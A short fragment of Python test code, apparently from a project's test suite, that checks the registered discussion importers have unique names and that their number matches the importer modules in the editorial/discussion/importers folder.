    assert len({one.name for one in IMPORTERS}) == len(IMPORTERS)
    folder = Path(pipeline.__file__).parent.parent / "editorial/discussion/importers"
    assert len(IMPORTERS) == len([path for path in folder.glob("*.py") if path.name != "__init__.py"])
